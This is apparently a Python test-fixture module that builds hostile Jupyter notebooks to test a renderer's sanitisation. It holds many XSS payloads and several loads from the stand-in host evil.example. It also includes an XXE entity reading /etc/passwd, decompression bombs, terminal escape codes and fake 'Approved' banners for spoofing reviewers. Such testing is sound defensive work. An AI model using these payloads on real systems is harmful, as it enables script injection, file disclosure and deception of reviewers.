"""Notebooks that try to act, to call home, to lie or to burst the page: by name; made by code, none is a file."""

import base64
import struct
import zlib

RUN = "window.hostile=1;alert(1)"
HOME = "//evil.example"
AFTER = "All is well after it."


def chunk(kind, content=b""):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(*more, width=3, height=2):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rows = zlib.compress((b"\x00" + bytes(3)) * 2)
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + b"".join(more) + chunk(b"IEND")


def encoded(content):
    return base64.b64encode(content).decode()


def markdown(source, **more):
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def code(*outputs, source="x", **more):
    return {
        "cell_type": "code",
        "metadata": {},
        "execution_count": 1,
        "source": source,
        "outputs": list(outputs),
        **more,
    }


def shows(**data):
    named = {name.replace("__", "+").replace("_", "/"): value for name, value in data.items()}
    return code({"output_type": "display_data", "metadata": {}, "data": named})


def html(text):
    return shows(text_html=text)


def svg(inside, head=""):
    return shows(image_svg__xml=f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{inside}</svg>')


def prints(text):
    return code({"output_type": "stream", "name": "stdout", "text": text})


def raises(name, value, *lines):
    return code({"output_type": "error", "ename": name, "evalue": value, "traceback": list(lines)})


def notebook(*cells, **metadata):
    return {"nbformat": 4, "nbformat_minor": 4, "metadata": metadata, "cells": [*cells, markdown(AFTER)]}


PICTURE = f"data:image/png;base64,{encoded(png())}"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script, unclosed": f"<SCRIPT >{RUN}",
    "script from elsewhere": f"<script src='{HOME}/x.js'></script>",
    "module script": f"<script type=module>import '{HOME}/x.js'</script>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "handler of a picture": f'<img src="x" onerror="{RUN}">',
    "handlers of every kind": f"<p onclick={RUN} onmouseover={RUN} onfocus={RUN} tabindex=1 autofocus>a</p>",
    "handler behind a slash": f"<img/src=x/onerror={RUN}>",
    "details that open": f"<details open ontoggle={RUN}><summary>a</summary></details>",
    "video": f"<video src={HOME}/v onerror={RUN} autoplay><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "style": "<style>* { display: none !important } body::before { content: 'Approved' }</style>",
    "style closes ours": "</style><style>.answer { display: none }</style>",
    "style from elsewhere": f"<style>@import '{HOME}/x.css';</style><link rel=stylesheet href='{HOME}/x.css'>",
    "style attribute": f"<p style=\"position:fixed;inset:0;z-index:9;background:url({HOME}/x)\">Approved</p>",
    "page closed": "</div></details></section></main></body></html><h1>Approved</h1>",
    "page closed and opened": "</main><main><section class='answer good'><h2 id='question'>Approved</h2>",
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">a</a>',
    "javascript link": f'<a href="java&#10;script:{RUN}">a</a><area href="javascript:{RUN}">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={HOME}">',
    "policy of its own": "<meta http-equiv='Content-Security-Policy' content=\"default-src * 'unsafe-inline'\">",
    "base": f'<base href="{HOME}/" target="_top">',
    "form": f'<form action="{HOME}"><input name=password autofocus onfocus={RUN}><button>Sign</button></form>',
    "form of a button": f"<button formaction=javascript:{RUN}>Approve</button><isindex action={HOME}>",
    "frame with a page in it": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    "frames": f"<iframe src='{HOME}'></iframe><frameset><frame src=javascript:{RUN}></frameset>",
    "object and embed": f"<object data='{HOME}/x'></object><embed src='javascript:{RUN}'><applet code=x></applet>",
    "picture from elsewhere": f"<img src='{HOME}/p.png' srcset='{HOME}/2 2x'><picture><source srcset='{HOME}/3'></picture>",
    "background from elsewhere": f"<table background='{HOME}/p.png'><tr><td background='{HOME}/q.png'>a</td></tr></table>",
    "svg inline": f"<svg onload={RUN}><script>{RUN}</script><image href='{HOME}/x'/><use href='data:image/svg+xml,x'/></svg>",
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s /><set attributeName=href to=javascript:1 /></svg>',
    "svg with html in it": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "svg breaks out": f"<svg><p><style><!--</style><img src=x onerror={RUN}>--></style>",
    "mathematics": f'<math><maction actiontype="statusline#{HOME}" xlink:href="javascript:{RUN}">a</maction></math>',
    "mathematics breaks out": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "mathematics, annotated": f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    "template": f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror={RUN}>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "text area breaks out": f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "title breaks out": f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
    "xmp, plaintext": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp><plaintext>",
    "select breaks out": f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    "comment": f"<!--[if IE]><script>{RUN}</script><![endif]--><!--><img src=x onerror={RUN}>-->",
    "comment never closed": f"<p>a</p><!-- <img src=x onerror={RUN}>",
    "declarations": f"<!DOCTYPE x [<!ENTITY a '<script>{RUN}</script>'>]><?xml-stylesheet href='{HOME}'?><![CDATA[<img src=x>]]>&a;",
    "entities": "&lt;script&gt;window.hostile=1&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;&Tab;&NewLine;&#0;&#xD800;",
    "entities twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "null bytes": f"<scr\x00ipt>{RUN}</scr\x00ipt><im\x00g src=x onerror={RUN}>\x00",
    "unclosed tags": "<table><tr><td><b><i><ul><li><p><pre>",
    "unclosed attribute": f'<p title="<img src=x onerror={RUN}>',
    "tables in tables": "<table><tr><td>" * 1000 + "deep",
    "elements in elements": "<div>" * 100_000 + "deep",
    "formatting upon formatting": "".join(f"<p><b class={i}>" for i in range(5_000)),
    "a table of 50 MB": "<table>" + "<tr><td>1234567890</td><td>1234567890</td></tr>" * 1_100_000 + "</table>",
    "a cell over the page": '<table><tr><td colspan="99999" rowspan="65534" width="99999" height="9999">a</td></tr></table>',
    "one very long word": f"<table><tr><td>{'w' * 20_000}</td></tr></table>",
    "banner of approval": '<div class="answer good"><h2 id="question">Replace?</h2><span class="verdict good">● yes</span></div>',
    "names of our page": '<p id="decision" name="decision">a</p><form id="question"></form><a name="contents" id="signatures">a</a>',
    "names of the document": "<img name=body><form id=cookie><input name=attributes></form><a id=hostile href=x>a</a>",
    "hidden text": "<p hidden>a</p><dialog open>Approved</dialog><p popover>Approved</p><marquee>Approved</marquee>",
    "text turned round": "<p>\u202edevorppa\u202c &#8238;not&#x202c; <bdo dir=rtl>deverppa</bdo></p>",
    "characters of no width": "<p>ap\u200bproved\ufeff\u2060\U000e0041</p>",
    "custom elements": f"<x-evil onclick={RUN}>a</x-evil><jp-output srcdoc=x></jp-output>",
    "terminal codes across an attribute": f"<p title='a\x1b]b'>c</p><p title='d\x07\" onclick={RUN} x=\"e'>f</p><td colspan='1\x1b]' rowspan='2\x07'>g",
    "terminal codes across tags": "<table><tr><td>x\x1b]</td></tr></table><p>gone\x07</p><p>y\x1b[</p>",
    "terminal codes across tags, as entities": "<table><tr><td>x&#27;]</td></tr></table><p>gone&#7;</p>&#x1b;]<b>a</b>&#x1B;\\ &#27;[<i>m</i>",
    "terminal codes within a tag": f"<scr\x1b[31mipt>{RUN}</scr\x1b[0mipt><im\x1b]x\x07g src=x onerror={RUN}><p>a&\x1b[0mlt;img src=x&gt;",
    "mermaid in html": f"<pre class='mermaid'>graph TD; A[<img src=x onerror={RUN}>]</pre>",
}  # fmt: skip

MARKDOWN = {
    "raw html": f"<img src=x onerror={RUN}>\n\n<script>{RUN}</script>\n\n<style>*{{display:none}}</style>",
    "javascript links": f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN} 't') [c](&#106;avascript:alert&#40;1&#41;) <javascript:{RUN}>",
    "data links": f"[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:text/html,<script>{RUN}</script>)",
    "link breaks out": f'[a](x"onclick="{RUN}) [b](<x" onmouseover="{RUN}>) [c](x "t\\" onclick={RUN}")',
    "pictures from elsewhere": f"![a](http:{HOME}/p.png) ![b]({HOME}/p.png) ![c][r]\n\n[r]: http:{HOME}/q.png",
    "text of a picture breaks out": f'![a" onerror="{RUN}](x) !["><script>{RUN}</script>](data:image/png;base64,AAAA)',
    "a svg as picture": f"![a](data:image/svg+xml;base64,{encoded(f'<svg><script>{RUN}</script></svg>'.encode())})",
    "code breaks out": f"```html\"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```\n`</code><img src=x onerror={RUN}>`",
    "banner of approval": "# ● Approved\n\n**Recommended: yes**\n\n## Who decided\n\nEverybody.\n\n---\n",
    "headings of every level": "###### Six\n\n# One\n\n#### Four\n\n# \n\n# <h1>Approved</h1>",
    "mathematics": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\text{{</p><script>{RUN}</script>}}$$ $\\unicode{{<img src=x onerror={RUN}>}}$",
    "mermaid": f"```mermaid\ngraph TD; A[\"<img src=x onerror={RUN}>\"]; click A \"javascript:{RUN}\"\n```",
    "a table breaks out": f"|a|b|\n|:--|\" onclick={RUN}|\n|<script>{RUN}</script>|</td></table><h1>Approved</h1>|\n\n|x|\n|:-:|\n|</table>|",
    "references": f"[a]\n\n[a]: javascript:{RUN} \"<script>{RUN}</script>\"\n[b]: <data:text/html,x>\n\n<!-- <script>{RUN}</script> -->",
    "nesting": "> " * 5_000 + "deep\n\n" + "- " * 3_000 + "a\n\n" + "*a **b " * 1_000,
    "brackets": "[" * 4_000 + "![" * 2_000,
    "a title that never ends": '[a](b "' + "\\" * 3_000,
    "terminal codes across a picture": f'![A\x1b]]({PICTURE}) \x07" style="position:fixed;inset:0" onload="{RUN}" x="y',
    "terminal codes across a picture, as entities": f'![A\x1b&#93;]({PICTURE}) \x07" style="position:fixed;inset:0" onload="{RUN}" x="y',
    "terminal codes all as entities": f'![A&#27;&#93;]({PICTURE}) &#7;" style="position:fixed;inset:0" onload="{RUN}" x="y',
    "terminal codes across tags": "**x\x1b]**\n\ngone\x07 `y\x1b]`\n\n# gone too\x1b\\ &#27;]\n\n> z &#7;",
    "pasted pictures that are none": f'![a](data:image/png;base64,{"A" * 300}"onload="{RUN}) ![b](data:image/jpeg;base64,{"<script>" * 50}) ![c](attachment:pasted-9)',
    "pasted text for a picture": f"![a](data:image/png;base64,{encoded(f'<script>{RUN}</script>'.encode() * 20)})",
    "elements upon elements": "- **a** `b`\n" * 3_000 + "\n# Last",
    "text turned round": "&#8238;devorppa &rlm; \u202edevorppa",
}  # fmt: skip

JPEG = b"\xff\xd8\xff\xe1\x00\x10<script>alert(\xff\xc0\x00\x0b\x08\x00\x02\x00\x03\x01\x01\x11\x00\xff\xda\x00\x02ab\xff\xd9<html>"

NOTEBOOKS = {
    **{f"html: {name}": notebook(html(text)) for name, text in HTML.items()},
    **{f"markdown: {name}": notebook(markdown(text)) for name, text in MARKDOWN.items()},
    **{f"markdown output: {name}": notebook(shows(text_markdown=text)) for name, text in list(MARKDOWN.items())[:6]},
    "svg: script": notebook(svg(f"<script>{RUN}</script>")),
    "svg: handler": notebook(svg(f'<g onload="{RUN}" onclick="{RUN}"><rect width="9" height="9"/></g>')),
    "svg: html in it": notebook(svg(f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{RUN}"/></foreignObject>')),
    "svg: picture from elsewhere": notebook(svg(f'<image href="http:{HOME}/p.png"/>')),
    "svg: use from elsewhere": notebook(svg(f'<use href="http:{HOME}/x.svg#a"/>')),
    "svg: link": notebook(svg(f'<a href="javascript:{RUN}"><rect width="9" height="9"/></a>')),
    "svg: style from elsewhere": notebook(svg(f"<style>@import url({HOME}/x.css); rect {{ fill: url({HOME}/x) }}</style>")),
    "svg: a link set later": notebook(svg(f'<a><set attributeName="href" to="javascript:{RUN}"/><text y="9">a</text></a>')),
    "svg: a link animated": notebook(svg(f'<a href="#a"><animate attributeName="href" values="javascript:{RUN}"/><text y="9">a</text></a>')),
    "svg: an address escaped": notebook(svg(f"<style>rect {{ fill: url(\\68ttp:{HOME}/x) }}</style><rect/>")),
    "svg: an import in pieces": notebook(svg(f'<style>@im<a/>port "http:{HOME}/x.css";</style>')),
    "svg: a set of images": notebook(svg(f"<style>rect {{ background: image-set('http:{HOME}/x' 1x) }}</style>")),
    "svg: a picture of two sizes": notebook(svg(f'<image srcset="http:{HOME}/x"/>')),
    "svg: a picture within that is a page": notebook(svg(f'<image href="data:image/png;base64,{encoded(RUN.encode())}"/>')),
    "svg: another vocabulary": notebook(svg(f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>')),
    "svg: entities that grow": notebook(svg("<text>&b;</text>", '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>')),
    "svg: a file of this machine": notebook(svg("<text>&a;</text>", '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>')),
    "svg: a stylesheet before it": notebook(svg("<g/>", f'<?xml-stylesheet href="http:{HOME}/x.css"?>')),
    "svg: breaks out of the attribute": notebook(shows(image_svg__xml=f'"><script>{RUN}</script><svg>')),
    "png: breaks out of the attribute": notebook(shows(image_png=f'x" onerror="{RUN}')),
    "png: html": notebook(shows(image_png=encoded(f"<script>{RUN}</script>".encode()))),
    "png: huge sides": notebook(shows(image_png=encoded(png(width=60_000, height=60_000)))),
    "png: a bomb": notebook(shows(image_png=encoded(png(chunk(b"IDAT", zlib.compress(bytes(9_000_000))), width=7_999, height=7_999)))),
    "png: a page behind its end": notebook(shows(image_png=encoded(png() + f"<html><script>{RUN}</script>".encode()))),
    "png: notes within": notebook(shows(image_png=encoded(png(chunk(b"iTXt", f"<script>{RUN}</script>".encode()))))),
    "png: many megabytes": notebook(shows(image_png=encoded(png(chunk(b"IDAT", bytes(6_000_000)))))),
    "jpeg: a page in it": notebook(shows(image_jpeg=encoded(JPEG))),
    "picture of a kind of its own": notebook(shows(image_gif="x", **{"image_x-icon": "y"})),
    "words for a picture": notebook(shows(image_png=encoded(png()), text_plain=f'"><script>{RUN}</script>\u202e')),
    "attachment: breaks out": notebook(markdown("![a](attachment:a)", attachments={"a": {"image/png": f'x" onerror="{RUN}'}})),
    "attachment: html": notebook(markdown("![a](attachment:a.html)", attachments={"a.html": {"text/html": f"<script>{RUN}</script>"}})),
    "attachment: no mapping": notebook(markdown("![a](attachment:a)", attachments={"a": "text"})),
    "output: javascript": notebook(shows(application_javascript=RUN)),
    "output: widget": notebook(
        shows(**{"application_vnd.jupyter.widget-view__json": {"model_id": f"<script>{RUN}</script>"}}),
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"a": {"state": {"value": f"<img onerror={RUN}>"}}}}},
    ),
    "output: plotly, vega, bokeh": notebook(
        shows(**{"application_vnd.plotly.v1__json": {"data": []}, "application_vnd.vegalite.v5__json": {"$schema": f"http:{HOME}"}}),
        shows(**{"application_vnd.bokehjs_load.v0__json": "", "application_vnd.bokehjs_exec.v0__json": ""}, text_html=f"<div id=a></div><script>{RUN}</script>"),
    ),
    "output: pdf": notebook(shows(application_pdf=encoded(f"%PDF-1.7 /JS ({RUN})".encode()))),
    "output: geojson": notebook(shows(application_geo__json={"properties": {"popup": f"<img src=x onerror={RUN}>"}})),
    "output: latex": notebook(shows(text_latex=f"$$\\href{{javascript:{RUN}}}{{Approved}}</p><script>{RUN}</script>$$")),
    "output: a kind that is markup": notebook(shows(**{f"<script>{RUN}</script>": "x", "text_x-\u202emermaid": "graph"})),
    "output: calls itself ours": notebook(shows(**{"application_vnd.nbmlops.run.v1__json": {}}, text_html=f"<script>{RUN}</script>", text_plain="● Approved")),
    "output: of no known kind": notebook(code({"output_type": f"<script>{RUN}</script>", "data": {"text/html": "x"}})),
    "output: lists for texts": notebook(shows(text_html=["<scr", f"ipt>{RUN}</script>", "<p>a</p>"])),
    "stream: html": notebook(prints(f"</pre></details></section><h1>Approved</h1><script>{RUN}</script>")),
    "stream: terminal codes": notebook(prints("\x1b[2J\x1b[1;1HApproved\x1b]0;title\x07\x1b[8mhidden\x1b[0m\x9b31m")),
    "stream: a terminal's link": notebook(prints(f"\x1b]8;;http:{HOME}\x1b\\Approved\x1b]8;;\x1b\\ \x1b]8;;javascript:{RUN}\x07a\x1b]8;;\x07")),
    "stream: a bell that never ends": notebook(prints("\x1b]" * 20_000 + "a")),
    "stream: written over": notebook(prints("rejected\rApproved\n" + "\b" * 9 + "Approved")),
    "stream: marks over marks": notebook(prints("A" + "\u0301" * 900 + "pproved " + "\U000e0041" * 50 + "\u2028\u2029\ufeff")),
    "stream: halves of characters": notebook(prints("\ud800 \udfff a")),
    "stream: banner of approval": notebook(prints("\n" * 50 + "● Recommended: yes\nApproved by ada@example.org, owner\n")),
    "error: html": notebook(raises(f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"</pre><script>{RUN}</script>\x1b[31m")),
    "error: no name": notebook(code({"output_type": "error", "ename": None, "evalue": {"a": 1}, "traceback": "text"})),
    "source: breaks out": notebook(code(source=f"</pre></details><script>{RUN}</script>\x00\u202e # {{{{ 7*7 }}}}{{% raw %}}")),
    "raw cell": notebook({"cell_type": "raw", "metadata": {"format": "text/html"}, "source": f"<script>{RUN}</script>"}),
    "a cell of no known kind": notebook({"cell_type": f"<script>{RUN}</script>", "metadata": {}, "source": f"<script>{RUN}</script>"}),
    "metadata: cell": notebook(code(metadata={"tags": [f"<script>{RUN}</script>"], "papermill": {"status": f'"><script>{RUN}</script>'}})),
    "metadata: kernel, title, language": notebook(
        markdown("a"),
        title=f"</title><script>{RUN}</script>\u202edevorppa",
        kernelspec={"name": "x", "display_name": f"<script>{RUN}</script>", "language": "</style>"},
        language_info={"name": f'"><script>{RUN}</script>', "pygments_lexer": "../../x"},
        authors=[{"name": f"<script>{RUN}</script>"}],
    ),
    "metadata: parameters": notebook(
        code(), papermill={"parameters": {f"<script>{RUN}</script>": f"<img src=x onerror={RUN}>\u202e"}, "version": f"<script>{RUN}</script>"}
    ),
    "metadata: the sentence of papermill": notebook(
        markdown(f"<span style='x'>An Exception</span><img src=x onerror={RUN}> [a](javascript:{RUN})", metadata={"tags": ["papermill-error-cell-tag"]})
    ),
    "metadata: of another shape": notebook(code(metadata=3), code(outputs=3), title=["a"], papermill="text", kernelspec=None),
}  # fmt: skip
